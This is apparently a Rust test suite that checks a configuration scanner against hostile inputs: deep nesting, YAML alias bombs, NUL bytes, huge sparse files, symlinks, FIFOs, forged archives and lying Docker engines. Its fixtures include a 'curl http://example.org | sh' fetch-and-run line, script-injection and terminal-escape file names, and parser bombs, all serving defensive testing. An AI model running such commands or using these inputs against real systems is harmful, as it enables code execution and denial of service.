//! What others wrote to do harm, as the program meets it: a clear error or a gap that names the thing; never a panic,
//! a hang, memory without bounds, or a clean bill.
//!
//! Each run has 1 GiB of address space, and [`MOST_SECONDS`] of a processor, after which it is taken to hang.

#![allow(clippy::unwrap_used, clippy::panic)] // helpers of tests are tests

use std::ffi::{OsStr, OsString};
use std::fs;
use std::io::{Read, Write};
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::os::unix::net::UnixListener;
use std::os::unix::process::ExitStatusExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

/// How much of a processor a run may take, in seconds: other programs of the machine do not count.
const MOST_SECONDS: u32 = 60;
/// After this long a run is taken to wait for ever.
const LONGEST: Duration = Duration::from_secs(300);

/// A directory of its own for a test, gone at its end. Everybody may read it: some runs are nobody's.
struct Dir(PathBuf);

impl Dir {
    fn new(name: &str) -> Self {
        let path = std::env::temp_dir().join(format!("tyrian-hostile-{}-{name}", std::process::id()));
        let _ = fs::remove_dir_all(&path);
        fs::create_dir_all(&path).unwrap();
        fs::set_permissions(&path, fs::Permissions::from_mode(0o755)).unwrap();
        Dir(path)
    }
    fn put(&self, file: impl AsRef<Path>, text: impl AsRef<[u8]>) -> &Self {
        let path = self.0.join(file);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
        self
    }
    fn fifo(&self, name: &str) {
        assert!(Command::new("mkfifo").arg(self.0.join(name)).status().unwrap().success());
    }
}

impl Drop for Dir {
    fn drop(&mut self) {
        let _ = fs::remove_dir_all(&self.0);
    }
}

struct Ran {
    code: Option<i32>,
    out: String,
    talk: String,
}

impl Ran {
    fn all(&self) -> String {
        format!("{}{}", self.out, self.talk)
    }
}

fn bounded(dir: &Dir, before: &[&str], args: &[impl AsRef<OsStr>], stdin: Stdio) -> Ran {
    let mut words: Vec<OsString> = before.iter().map(Into::into).collect();
    words.push(env!("CARGO_BIN_EXE_tyrian").into());
    words.extend(args.iter().map(|arg| arg.as_ref().to_owned()));
    let mut command = Command::new("sh");
    let limits = format!("ulimit -v 1048576; ulimit -t {MOST_SECONDS}; exec \"$@\"");
    command.args(["-c", &limits, "sh"]).args(&words);
    command.current_dir(&dir.0).stdin(stdin).stdout(Stdio::piped()).stderr(Stdio::piped());
    command.env_remove("DOCKER_HOST").env_remove("TYRIAN_POLICY").env_remove("COLUMNS");
    command.env("HOME", "/nonexistent").env("RAYON_NUM_THREADS", "2");
    let mut child = command.spawn().unwrap();
    let drain = |mut from: Box<dyn Read + Send>| {
        std::thread::spawn(move || {
            let mut bytes = Vec::new();
            from.read_to_end(&mut bytes).unwrap();
            bytes
        })
    };
    let out = drain(Box::new(child.stdout.take().unwrap()));
    let talk = drain(Box::new(child.stderr.take().unwrap()));
    let until = Instant::now() + LONGEST;
    let status = loop {
        match child.try_wait().unwrap() {
            Some(status) => break status,
            None if Instant::now() > until => {
                child.kill().unwrap();
                child.wait().unwrap();
                panic!("it hangs: {words:?}");
            }
            None => std::thread::sleep(Duration::from_millis(20)),
        }
    };
    let output = Output { status, stdout: out.join().unwrap(), stderr: talk.join().unwrap() };
    let text = |bytes| String::from_utf8(bytes).unwrap();
    let ran = Ran { code: status.code(), out: text(output.stdout), talk: text(output.stderr) };
    assert_eq!(status.signal(), None, "{words:?}: {}", ran.talk);
    assert!(ran.code != Some(70) && !ran.talk.contains("panicked"), "{words:?}: {}", ran.talk);
    ran
}

fn run(dir: &Dir, args: &[&str]) -> Ran {
    bounded(dir, &[], args, Stdio::null())
}

/// The gate fails, or there is nothing to judge, and every text is said.
fn refused(dir: &Dir, said: &[&str]) {
    let ran = run(dir, &["gate", "."]);
    let plain = ran.all().split_whitespace().collect::<Vec<_>>().join(" ");
    assert!(matches!(ran.code, Some(1 | 3)), "{:?} {plain}", ran.code);
    said.iter().for_each(|said| assert!(plain.contains(said), "no {said:?} in: {plain}"));
}

const POD: &str = "apiVersion: v1\nkind: Pod\nmetadata: {name: a}\nspec: {hostPID: true, containers: [{name: a, image: 'x:1'}]}\n";
const MAP: &str = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\n";
const COMPOSE: &str = "services:\n  a:\n    image: x:1\n    privileged: true\n";
const BUCKET: &str = "resource \"aws_s3_bucket\" \"b\" {\n  acl = \"public-read\"\n}\n";

/// The beginnings of files that are nested too deeply, each a million times.
#[test]
fn depth_is_refused_by_every_reader() {
    let dir = Dir::new("deep");
    let files = [
        ("compose.yaml", "services: {a: {image: x, command: "),
        ("pod.yaml", "apiVersion: v1\nkind: Pod\nx: "),
        ("pod.json", "{\"apiVersion\": \"v1\", \"kind\": \"Pod\", \"x\": "),
        ("main.tf", "resource \"a\" \"b\" {\n x = "),
        ("main.tf.json", "{\"resource\": "),
        ("docker/daemon.json", "{\"icc\": "),
        ("Dockerfile", "FROM x\nRUN "),
        ("run.sh", "#!/bin/sh\n"),
        ("Jenkinsfile", "pipeline { agent any; stages { "),
        (".github/workflows/a.yml", "on: push\njobs: "),
        ("kustomization.yaml", "resources: "),
        ("package.json", "{\"dependencies\": "),
        ("pyproject.toml", "[project]\ndependencies = "),
        ("Cargo.toml", "[dependencies]\na = "),
    ];
    for piece in ["[", "{", "{\"a\":", "(", "- ", "$(", "!", "a?"] {
        for (file, start) in files {
            let _ = fs::remove_dir_all(&dir.0);
            dir.put(file, format!("{start}{}", piece.repeat(1_000_000 / piece.len())));
            let ran = run(&dir, &["gate", "."]);
            assert!(matches!(ran.code, Some(0 | 1 | 3)), "{file} {piece}: {}", ran.talk);
            // Words of a shell may be long; a document that does not end is none.
            let words =
                ["Dockerfile", "run.sh", "Jenkinsfile", "package.json", "pyproject.toml", "Cargo.toml"];
            assert!(words.contains(&file) || ran.code != Some(0), "{file} {piece}: {}", ran.out);
        }
    }
    // Not the gate's default, but never silent.
    let dir = Dir::new("deep-package");
    dir.put("package.json", format!("{{\"dependencies\": {}", "[".repeat(1_000_000)));
    assert!(run(&dir, &["scan", "."]).all().contains("package.json:1"));
}

#[test]
fn aliases_and_circles_end() {
    let bomb: String =
        (1..12).map(|n| format!("a{n}: &a{n} [{}]\n", vec![format!("*a{}", n - 1); 9].join(","))).collect();
    let merged: String = (1..12)
        .map(|n| format!("a{n}: &a{n} {{<<: [{}]}}\n", vec![format!("*a{}", n - 1); 9].join(",")))
        .collect();
    for (name, text) in [
        ("list", format!("a0: &a0 [x, x]\n{bomb}services: {{a: {{image: x, command: *a11}}}}\n")),
        ("self", "services:\n  a: &a\n    image: x\n    <<: *a\n".into()),
        ("extends", "services:\n  a: {extends: {service: b}}\n  b: {extends: {service: a}}\n".into()),
        ("include", "include: [compose.yaml]\nservices: {a: {image: x}}\n".into()),
    ] {
        let dir = Dir::new(&format!("alias-{name}"));
        dir.put("compose.yaml", text);
        refused(&dir, &["compose.yaml"]);
    }
    // All of these are one value in the end.
    let dir = Dir::new("alias-merge");
    let text = format!("a0: &a0 {{privileged: true}}\n{merged}services: {{a: {{<<: *a11, image: x}}}}\n");
    dir.put("compose.yaml", text);
    refused(&dir, &["privileged-container"]);
    let dir = Dir::new("alias-kustomize");
    dir.put("a/kustomization.yaml", "resources: [../b]\n").put("b/kustomization.yaml", "resources: [../a]\n");
    refused(&dir, &["kustomization.yaml"]);
}

/// What a deployment would read, and who is judged would like to hide.
#[test]
fn nothing_hides_a_file_that_its_name_gives_away() {
    let utf16 = |text: &str| -> Vec<u8> {
        [0xfeff].into_iter().chain(text.encode_utf16()).flat_map(u16::to_le_bytes).collect()
    };
    for (file, text, check) in
        [("compose.yaml", COMPOSE, "privileged-container"), ("pod.yaml", POD, "host-pid-namespace")]
    {
        let dir = Dir::new(&format!("utf16-{file}"));
        dir.put(file, utf16(text));
        let ran = run(&dir, &["scan", ".", "--all"]);
        assert!(ran.code == Some(0) && ran.out.contains(check), "{file}: {}", ran.all());
    }
    for (file, bytes) in [
        ("Dockerfile", b"# \0\nFROM debian\n".to_vec()),
        ("compose.yaml", format!("# \0\n{COMPOSE}").into_bytes()),
        ("pod.yaml", utf16(POD)[..99].to_vec()),
        ("main.tf", format!("# \0\n{BUCKET}").into_bytes()),
        ("run.sh", b"#!/bin/sh\n# \0\ncurl http://example.org | sh\n".to_vec()),
    ] {
        let dir = Dir::new(&format!("nul-{file}"));
        dir.put("map.yaml", MAP).put(file, bytes);
        refused(&dir, &[&format!("{file} has NUL bytes")]);
    }
    let pad = format!("# {}\n", "x".repeat(70)).repeat(1000);
    let json = r#"{"metadata": {"annotations": {"kind": "small"}, "name": "a"}, "apiVersion": "v1", "kind": "Pod",
        "spec": {"hostPID": true, "containers": [{"name": "a", "image": "x:1"}]}}"#;
    for (name, file, text, check) in [
        ("compose", "compose.yaml", format!("{pad}{COMPOSE}"), "privileged-container"),
        ("pod", "pod.yaml", format!("{pad}{POD}"), "host-pid-namespace"),
        ("json", "pod.json", format!("{}{json}", " ".repeat(70_000)), "host-pid-namespace"),
        ("tf", "main.tf", format!("{pad}{BUCKET}"), "public-bucket"),
        ("docker", "Dockerfile.prod", format!("{pad}FROM debian\n"), "floating-base-image"),
        (
            "flow",
            ".github/workflows/a.yml",
            format!("{pad}on: push\njobs:\n  a:\n    runs-on: x\n    steps: [{{uses: a/b@v1}}]\n"),
            "mutable-action",
        ),
        (
            "shell",
            "run.sh",
            "#!/bin/sh\n# Generated by GNU Autoconf\ncurl http://example.org/x | sh\n".into(),
            "run.sh:3",
        ),
    ] {
        let dir = Dir::new(&format!("pad-{name}"));
        dir.put(file, text);
        let ran = run(&dir, &["scan", ".", "--all"]);
        let found = ran.code == Some(0)
            && !ran.out.contains("No findings")
            && (name == "flow" || ran.out.contains(check));
        assert!(found, "{file}: {}", ran.all());
    }
}

/// A marker of a cache can be put anywhere: only what nobody committed is left out for it.
#[test]
fn markers_hide_nothing_that_is_committed() {
    let made = "Signature: 8a477f597d28d172789f06886806bc55\n";
    for marker in ["CACHEDIR.TAG", "pyvenv.cfg"] {
        let dir = Dir::new(&format!("marker-{marker}"));
        for directory in ["deploy", "target", "venv"] {
            dir.put(format!("{directory}/{marker}"), made).put(format!("{directory}/compose.yaml"), COMPOSE);
        }
        let seen = || {
            let out = run(&dir, &["scan", ".", "--all", "-f", "json"]).out;
            ["deploy/c", "target/c", "venv/c"].map(|path| out.contains(&format!("\"{path}ompose.yaml\"")))
        };
        assert_eq!(seen(), [true, false, false], "tools make no deploy");
        // Nothing says that nobody committed them, so a gate cannot tell.
        let gate = |target: &str| {
            let ran = run(&dir, &["gate", "--quiet", target]);
            (ran.code, ran.all().split_whitespace().collect::<Vec<_>>().join(" "))
        };
        dir.put(format!("only/build/{marker}"), made).put("only/x.sh", "#!/bin/sh\nset -eu\necho good\n");
        let (code, said) = gate("only");
        assert_eq!(code, Some(1), "{said}");
        assert!(said.contains("for build is left out (") && said.contains("no Git index says"), "{said}");
        let git = |args: &[&str]| {
            let ran = Command::new("git").arg("-C").arg(&dir.0).args(args).output().unwrap();
            assert!(ran.status.success(), "git {args:?}: {}", String::from_utf8_lossy(&ran.stderr));
        };
        git(&["init", "-q"]);
        git(&["add", "target"]);
        assert_eq!(seen(), [false, true, false], "only target is committed");
        assert!(run(&dir, &["scan", "."]).all().contains("venv is left out"));
        let (code, said) = gate("only");
        assert_eq!(code, Some(0), "Git says that nobody committed it: {said}");
        // In a worktree `.git` is a file that leads to the index.
        git(&["add", "only/x.sh"]);
        git(&["-c", "user.name=a", "-c", "user.email=a@example.org", "commit", "-q", "-m", "x"]);
        git(&["worktree", "add", "-q", "tree"]);
        dir.put(format!("tree/only/build/{marker}"), made).put("tree/only/build/compose.yaml", COMPOSE);
        let (code, said) = gate("tree/only");
        assert_eq!(code, Some(0), "{said}");
    }
}

#[test]
fn only_ordinary_files_of_the_tree_are_opened() {
    let outside = Dir::new("outside");
    outside.put("canary.yaml", POD.replace("name: a}", "name: canary-of-the-outside}"));
    outside.put("secret.toml", "canary-of-the-outside = [\n");
    let dir = Dir::new("files");
    dir.put("map.yaml", MAP);
    let endless = |name: &str, start: &str| {
        dir.put(name, start);
        fs::OpenOptions::new().write(true).open(dir.0.join(name)).unwrap().set_len(10 << 30).unwrap();
    };
    endless("Dockerfile", "FROM debian\n#");
    endless("compose.yaml", COMPOSE);
    endless("zeros.yaml", "");
    symlink("/dev/zero", dir.0.join("zero.yaml")).unwrap();
    symlink("loop", dir.0.join("loop")).unwrap();
    symlink("..", dir.0.join("up")).unwrap();
    symlink(outside.0.join("canary.yaml"), dir.0.join("link.yaml")).unwrap();
    symlink("map.yaml", dir.0.join("other.yaml")).unwrap();
    dir.fifo("pipe.yaml");
    refused(
        &dir,
        &[
            "Dockerfile has NUL bytes",
            "compose.yaml has NUL bytes",
            "zeros.yaml has NUL bytes",
            "zero.yaml is a link out of the tree",
            "link.yaml is a link out of the tree",
            "pipe.yaml is no ordinary file",
        ],
    );
    for format in ["human", "json"] {
        let ran = run(&dir, &["scan", ".", "-f", format]);
        assert!(!ran.all().contains("canary") && !ran.all().contains("other.yaml is"), "{}", ran.all());
    }
    for target in ["/dev/zero", "pipe.yaml", "up/nothing", "loop", "zeros.yaml"] {
        for (before, behind) in
            [("", ""), ("facts:", ""), ("oci:", ""), ("manifest:", "#Pod/a"), ("compose:", "#a")]
        {
            let ran = run(&dir, &["scan", &format!("{before}{target}{behind}")]);
            assert!(
                matches!(ran.code, Some(2 | 3)) && ran.talk.len() > 10,
                "{before}{target}: {}",
                ran.all()
            );
        }
    }
    let plain = Dir::new("configuration");
    plain.put("compose.yaml", COMPOSE);
    plain.fifo("pipe");
    for baseline in ["/dev/zero", "pipe"] {
        assert_eq!(run(&plain, &["scan", ".", "--baseline", baseline]).code, Some(2));
    }
    plain.put("tyrian.toml", "baseline = \"pipe\"\n");
    assert_eq!(run(&plain, &["gate", "."]).code, Some(2));
    fs::remove_file(plain.0.join("tyrian.toml")).unwrap();
    symlink(outside.0.join("secret.toml"), plain.0.join("tyrian.toml")).unwrap();
    let ran = run(&plain, &["gate", "."]);
    assert!(
        ran.code == Some(2) && ran.talk.contains("a link out") && !ran.all().contains("canary"),
        "{}",
        ran.all()
    );
}

#[test]
fn what_may_not_be_read_is_said() {
    if !Path::new("/usr/bin/setpriv").exists()
        || fs::metadata("/proc/self").unwrap().permissions().mode() == 0
    {
        return;
    }
    let dir = Dir::new("denied");
    dir.put("map.yaml", MAP).put("compose.yaml", COMPOSE).put("closed/pod.yaml", POD);
    fs::set_permissions(dir.0.join("compose.yaml"), fs::Permissions::from_mode(0o000)).unwrap();
    fs::set_permissions(dir.0.join("closed"), fs::Permissions::from_mode(0o000)).unwrap();
    let socket = dir.0.join("engine.sock");
    let _engine = UnixListener::bind(&socket).unwrap();
    fs::set_permissions(&socket, fs::Permissions::from_mode(0o000)).unwrap();
    // Root may read everything, so nobody is asked; the program may lie where nobody may look.
    let root = Command::new("id").arg("-u").output().unwrap().stdout == b"0\n";
    let nobody = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"];
    let before: &[&str] = if root { &nobody } else { &[] };
    let may = Command::new("setpriv")
        .args(&nobody[1..])
        .args(["test", "-x", env!("CARGO_BIN_EXE_tyrian")])
        .status();
    if root && !may.is_ok_and(|status| status.success()) {
        eprintln!(
            "skipped: what_may_not_be_read_is_said: nobody may not run {}",
            env!("CARGO_BIN_EXE_tyrian")
        );
    } else {
        let ran = bounded(&dir, before, &["gate", "."], Stdio::null());
        let plain = ran.all().split_whitespace().collect::<Vec<_>>().join(" ");
        assert!(ran.code == Some(1) && plain.contains("compose.yaml cannot be read"), "{plain}");
        assert!(plain.contains("closed cannot be read"), "{plain}");
        let endpoint = format!("unix://{}", socket.display());
        let ran = bounded(&dir, before, &["scan", "docker", "--docker-host", &endpoint], Stdio::null());
        assert!(ran.code == Some(3) && ran.talk.contains("no right to speak"), "{}", ran.all());
    }
    fs::set_permissions(dir.0.join("closed"), fs::Permissions::from_mode(0o755)).unwrap();
}

#[test]
fn names_do_nothing_to_whom_they_are_shown() {
    let dir = Dir::new("names");
    for name in [
        &b"a\n\x1b[31m.yaml"[..],
        b"\xff\xfe.yaml",
        b"<script>alert(1)<.yaml",
        "\u{202e}lmay.yaml".as_bytes(),
        b"%2e%2e%2f.yaml",
    ] {
        let pod = "apiVersion: v1\nkind: Pod\nmetadata: {name: \"p\\e[31m\\u202e<b>/#%\"}\nspec: {hostPID: true, containers: [{name: \"c\\n#/:%\", image: \"x\\e[0m:1\"}]}\n";
        dir.put(OsStr::from_bytes(name), pod);
    }
    for format in ["human", "json", "sarif", "html", "svg"] {
        let out = run(&dir, &["scan", ".", "--all", "-f", format]).out;
        let bad = |c: char| c != '\n' && c.is_control() || ('\u{202a}'..='\u{202e}').contains(&c);
        assert!(out.len() > 100 && !out.contains("<script>alert") | !format.ends_with("l"), "{format}");
        assert_eq!(out.chars().find(|c| bad(*c)), None, "{format}");
    }
    let json: serde_json::Value = serde_json::from_str(&run(&dir, &["scan", ".", "-f", "json"]).out).unwrap();
    for finding in json["findings"].as_array().unwrap() {
        let subject = finding["subject"].as_str().unwrap();
        assert!(subject.bytes().all(|byte| byte.is_ascii_graphic() && !b"<>\"".contains(&byte)), "{subject}");
    }
    let facts = run(&dir, &["facts", "collect", "."]).out;
    assert!(serde_json::from_str::<serde_json::Value>(&facts).is_ok() && !facts.contains('\u{202e}'));
}

#[test]
fn large_trees_and_files_are_bounded() {
    let dir = Dir::new("large");
    for number in 0..100_000 {
        fs::write(dir.0.join(format!("f{number}.yaml")), "").unwrap();
    }
    dir.put("compose.yaml", COMPOSE);
    assert_eq!(run(&dir, &["gate", "."]).code, Some(1));
    let dir = Dir::new("long");
    dir.put("compose.yaml", format!("{COMPOSE}#{}", "x".repeat(100_000_000)));
    refused(&dir, &["compose.yaml is larger than 8 MiB"]);
    let many = format!("FROM x:1\n{}", "ENV A=$A$A\n".repeat(50_000));
    dir.put("Dockerfile", many);
    assert!(matches!(run(&dir, &["gate", "."]).code, Some(1)));
    // What is short to write is no more to hold: each has more than ten findings.
    let dir = Dir::new("pods");
    let pod = |n: usize| {
        format!(
            "---\n{{apiVersion: v1, kind: Pod, metadata: {{name: p{n}}}, spec: {{containers: [{{name: a, image: x}}]}}}}\n"
        )
    };
    dir.put("pods.yaml", (0..5_000).map(pod).collect::<String>());
    assert_eq!(run(&dir, &["scan", ".", "-f", "json"]).code, Some(0));
}

/// Every word looks like the name of a secret, and all stand in one line.
#[test]
fn names_of_secrets_without_end_are_read_once() {
    let dir = Dir::new("names-of-secrets");
    for (start, word) in [("", "token "), ("", "PASSWORD="), ("#!/bin/sh\nexport ", "PASSWORD=a\\ ")] {
        dir.put("run.sh", format!("{start}{}", word.repeat(1_000_000 / word.len())));
        assert!(matches!(run(&dir, &["gate", "."]).code, Some(0 | 1)), "{word}");
    }
}

#[test]
fn endless_input_is_refused() {
    let dir = Dir::new("input");
    for device in ["/dev/zero", "/dev/urandom"] {
        let ran = bounded(&dir, &[], &["scan", "-"], fs::File::open(device).unwrap().into());
        assert!(ran.code == Some(3) && ran.talk.contains("more than 64 MiB"), "{}", ran.all());
    }
}

#[test]
fn archives_that_lie_are_refused() {
    let dir = Dir::new("archives");
    let mut header = [0_u8; 512];
    header[..13].copy_from_slice(b"manifest.json");
    header[124..136].copy_from_slice(b"77777777777\0");
    header[148..156].copy_from_slice(b"        ");
    header[257..263].copy_from_slice(b"ustar\0");
    let sum: u32 = header.iter().map(|byte| u32::from(*byte)).sum();
    header[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
    let gzip = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 0xff, 0xff];
    for (name, bytes) in [("long", &header[..]), ("text", b"no archive"), ("gzip", &gzip), ("none", b"")] {
        dir.put(name, bytes);
        for kind in ["archive", "oci"] {
            let ran = run(&dir, &["scan", &format!("{kind}:{name}")]);
            assert!(matches!(ran.code, Some(2 | 3)) && ran.talk.len() > 20, "{kind}:{name}: {}", ran.all());
        }
    }
}

/// Engines that do not answer as one would.
#[test]
fn engines_that_lie_are_no_clean_bill() {
    let ping = "HTTP/1.1 200 OK\r\nApi-Version: 1.47\r\nContent-Length: 2\r\n\r\nOK";
    for (name, answer) in [
        ("garbage", "\u{0}\u{1}nonsense\n"),
        ("closes", ""),
        ("half", "HTTP/1.1 200 OK\r\nApi-Ver"),
        ("page", "HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\n<p/>"),
        ("old", "HTTP/1.1 200 OK\r\nApi-Version: 0.9\r\nContent-Length: 2\r\n\r\nOK"),
        ("only-ping", ping),
    ] {
        let dir = Dir::new(&format!("engine-{name}"));
        let socket = dir.0.join("s");
        let listener = UnixListener::bind(&socket).unwrap();
        let answer = answer.to_owned();
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut stream) = stream else { return };
                let _ = stream.read(&mut [0; 4096]);
                let _ = stream.write_all(answer.as_bytes());
            }
        });
        let endpoint = format!("unix://{}", socket.display());
        let ran = run(&dir, &["gate", "docker", "--docker-host", &endpoint]);
        assert!(matches!(ran.code, Some(1 | 3)) && ran.all().len() > 40, "{name}: {}", ran.all());
        let ran = run(&dir, &["scan", "image:x:1", "--docker-host", &endpoint]);
        assert!(!ran.out.contains("No findings") && ran.code == Some(3), "{name}: {}", ran.all());
    }
}

#[test]
fn an_engine_that_hangs_is_left() {
    let dir = Dir::new("engine-hangs");
    let socket = dir.0.join("s");
    let listener = UnixListener::bind(&socket).unwrap();
    std::thread::spawn(move || {
        let mut open = Vec::new();
        listener.incoming().for_each(|stream| open.push(stream));
    });
    let ran = run(&dir, &["scan", "docker", "--docker-host", &format!("unix://{}", socket.display())]);
    assert!(ran.code == Some(3) && ran.talk.contains("did not answer in time"), "{}", ran.all());
}
